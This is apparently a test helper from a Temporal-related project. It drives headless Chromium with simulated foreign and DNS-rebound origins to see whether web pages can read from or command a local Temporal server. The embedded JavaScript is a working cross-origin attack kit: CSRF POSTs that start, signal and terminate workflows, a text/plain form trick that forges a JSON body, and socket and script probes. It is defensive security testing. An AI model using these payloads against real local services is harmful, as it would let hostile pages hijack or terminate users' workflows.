"""What web pages try against a Temporal server of this machine, in a real browser.

One page is of another site, one of another port of this machine, and both know every port. Others
are of each port's own origin: their name first meant their own server and now means this machine
(DNS rebinding). Here their server answers the page itself and passes every other byte on, which
for the browser and for whoever listens is the same.
"""

import json
import os
import re
import signal
import subprocess
import threading
from collections.abc import Generator, Iterable
from contextlib import ExitStack, closing, contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from queue import Queue
from socket import SHUT_WR, create_connection, create_server, socket
from typing import Final

from pydantic import BaseModel, TypeAdapter

from tests.browser.browser import chromium

VICTIM: Final = "victim"
"""The run that pages try to signal and to terminate."""
ATTACK: Final = "attack"
"""How the ids of runs begin that pages try to start."""

_HERE: Final = "127.0.0.1"
_REBOUND: Final = "127.66.0.1"
"""The address of the server whose name is rebound."""
_PATIENCE: Final = 90.0
"""Seconds in which the pages come to their end."""
_CHUNK: Final = 65536
_FLAGS: Final = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
    f"--host-resolver-rules=MAP stranger.example {_HERE}, MAP rebound.example {_REBOUND}",
    "--disable-popup-blocking",
)

_TRY: Final = """
const found = [];
const NAMESPACES = "/api/v1/namespaces", RUNS = "/api/v1/namespaces/default/workflows";
const START = JSON.stringify({workflowType: {name: "x"}, taskQueue: {name: "x"}});
const orders = base => [
  [`${base}${RUNS}/ATTACK-${Math.random()}`, START],
  [`${base}${RUNS}/VICTIM/signal/x`, "{}"],
  [`${base}${RUNS}/VICTIM/terminate`, "{}"],
];
const attempt = async (what, work) => {
  try { const got = await work(); if (got) found.push({what, got: String(got).slice(0, 200)}); }
  catch (error) { }  // the browser or the server refuses
};
const read = async (url, given) => {
  const answer = await fetch(url, {signal: AbortSignal.timeout(3000), ...given});
  return answer.type !== "opaque" && answer.ok && await answer.text();
};
const opened = begin => new Promise((done, fail) => { begin(done, fail); setTimeout(fail, 3000); });
const tryAll = async base => {
  for (const path of [NAMESPACES, RUNS, "/api/v1/settings", "/metrics", "/"])
    await attempt(`read ${base}${path}`, () => read(base + path));
  for (const [url, body] of orders(base)) {
    const plain = {method: "POST", body, headers: {"content-type": "text/plain"}};
    const token = (document.cookie.match(/_csrf=([^;]*)/) || [])[1] || "";
    const headers = {"content-type": "application/json", "x-csrf-token": token};
    await attempt(`order ${url}`, () => read(url, {...plain, mode: "no-cors"}));
    await attempt(`order ${url}`, () => read(url, {...plain, credentials: "include"}));
    await attempt(`order ${url}`, () => read(url, {method: "POST", body, headers}));
  }
  navigator.sendBeacon(orders(base)[0][0], START);
  const socket = base.replace("http", "ws") + RUNS;
  await attempt(`socket ${base}`, () => opened((done, fail) => Object.assign(
    new WebSocket(socket), {onopen: () => done("open"), onerror: fail})));
  await attempt(`stream ${base}`, () => opened((done, fail) => Object.assign(
    new EventSource(base + RUNS), {onopen: () => done("open"), onerror: fail})));
  await attempt(`script ${base}`, () => opened((done, fail) => document.body.append(Object.assign(
    document.createElement("script"),
    {src: base + RUNS, onload: () => done("loaded"), onerror: fail}))));
};
const submit = base => orders(base).forEach(([action, body], index) => {
  // A form of plain text sends `name=value`: the name begins a JSON text that the value ends.
  const frame = document.createElement("iframe"), form = document.createElement("form");
  const field = document.createElement("input"), begin = body.slice(0, -1);
  frame.name = `${base}-${index}`;
  Object.assign(form, {action, method: "POST", enctype: "text/plain", target: frame.name});
  Object.assign(field, {name: `${begin}${begin === "{" ? "" : ","}"identity":"`, value: '"}'});
  form.append(field);
  document.body.append(frame, form);
  form.submit();
});
const attack = async bases => {
  bases.forEach(submit);
  await Promise.all(bases.map(tryAll));
  await new Promise(done => setTimeout(done, 1000));  // forms and beacons answer nobody
  return found;
};
const everywhere = ADDRESSES.flatMap(([host, port]) => host === "127.0.0.1"
  ? [`http://127.0.0.1:${port}`, `http://localhost:${port}`, `http://[::1]:${port}`]
  : [`http://${host}:${port}`]);
const inWindow = url => new Promise(done => {
  // In a window of its own, a page has the cookies of its origin.
  const page = open(url);
  addEventListener("message", event => { if (event.source === page) done(event.data); });
  setTimeout(() => done([]), 12000);  // no browser opens a port that it blocks
});
"""
_PAGES: Final = {
    "stranger": """onload = async () => {
      const others = [inWindow(location.origin.replace("stranger.example", "localhost") + "/near")];
      for (const [, port] of ADDRESSES) others.push(inWindow(`http://rebound.example:${port}/own`));
      const all = [await attack(everywhere), ...await Promise.all(others)];
      await fetch("/found", {method: "POST", body: JSON.stringify(all.flat())});
    };""",
    "near": "onload = async () => opener.postMessage(await attack(everywhere), '*');",
    "own": "onload = async () => opener.postMessage(await attack([location.origin]), '*');",
}

Address = tuple[str, int]


class Reached(BaseModel):
    """Something that a page could do or read."""

    what: str
    got: str


def listening(*pids: int) -> list[Address]:
    """Return the addresses at which processes listen (Linux)."""
    sockets: set[str] = set()
    for pid in pids:
        for link in Path(f"/proc/{pid}/fd").iterdir():
            with suppress(FileNotFoundError):
                sockets.add(str(link.readlink()))
    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    is_listening = "0A"
    return sorted(
        _decoded(row[1])
        for row in rows
        if row[3] == is_listening and f"socket:[{row[9]}]" in sockets
    )


def attack(addresses: Iterable[Address], folder: Path) -> list[Reached]:
    """Let pages try all they can against these addresses, and return what they reached.

    What forms and beacons did, no page is told: it shows at the server.

    Args:
        addresses: Where the server listens.
        folder: Where the browser's profile may lie.
    """
    known = list(addresses)
    pages = {name: _page(script, known) for name, script in _PAGES.items()}
    strangers = _Site(pages)
    with ExitStack() as stack:
        for address in known:
            stack.enter_context(_serving(_REBOUND, address[1], _Site(pages, address)))
        own = stack.enter_context(_serving(_HERE, 0, strangers))
        browser = subprocess.Popen(
            [
                *(chromium(), *_FLAGS, f"--user-data-dir={folder / 'profile'}"),
                f"http://stranger.example:{own}/stranger",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        try:
            told = strangers.told.get(timeout=_PATIENCE)
        finally:
            os.killpg(browser.pid, signal.SIGKILL)  # a browser is many processes
            browser.wait()
    return TypeAdapter(list[Reached]).validate_json(told)


def _page(script: str, addresses: list[Address]) -> bytes:
    text = f"const ADDRESSES = {json.dumps(addresses)};{_TRY}{script}"
    text = text.replace("ATTACK", ATTACK).replace("VICTIM", VICTIM)
    return f"<!doctype html><meta charset=utf-8><body><script>{text}</script>".encode()


def _decoded(address: str) -> Address:
    host, port = address.split(":")
    return ".".join(str(byte) for byte in reversed(bytes.fromhex(host))), int(port, 16)


@dataclass(frozen=True)
class _Site:
    """What a server answers."""

    pages: dict[str, bytes]
    behind: Address | None = None
    """Who is given everything that asks for no page."""
    told: Queue[bytes] = field(default_factory=Queue[bytes])
    """What pages tell it."""

    def answer(self, client: socket) -> None:
        """Answer one connection."""
        with closing(client), suppress(OSError):
            data = client.recv(_CHUNK)
            page = self.pages.get(data.partition(b" HTTP/")[0].decode().removeprefix("GET /"))
            if page is not None:
                head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(page)}"
                client.sendall(head.encode() + b"\r\nConnection: close\r\n\r\n" + page)
            elif self.behind is not None:
                _pass_on(client, data, self.behind)
            elif data.startswith(b"POST /found "):
                self.told.put(_body(client, data))


def _body(client: socket, data: bytes) -> bytes:
    head, _, body = data.partition(b"\r\n\r\n")
    length = re.search(rb"(?i)\r\ncontent-length: (\d+)", head)
    while length is not None and len(body) < int(length[1]):
        body += client.recv(_CHUNK)
    return body


def _pass_on(client: socket, data: bytes, behind: Address) -> None:
    with closing(create_connection(behind)) as server:
        server.sendall(data)
        back = threading.Thread(target=_pump, args=(server, client), daemon=True)
        back.start()
        _pump(client, server)
        back.join()


def _pump(source: socket, target: socket) -> None:
    with suppress(OSError):
        while data := source.recv(_CHUNK):
            target.sendall(data)
    with suppress(OSError):
        target.shutdown(SHUT_WR)


@contextmanager
def _serving(host: str, port: int, site: _Site) -> Generator[int]:
    """Serve a site, and give its port."""

    def serve() -> None:
        with suppress(OSError):  # it is closed at the end
            while True:
                client, _ = server.accept()
                threading.Thread(target=site.answer, args=(client,), daemon=True).start()

    with closing(create_server((host, port))) as server:
        threading.Thread(target=serve, daemon=True).start()
        given: int = server.getsockname()[1]
        yield given
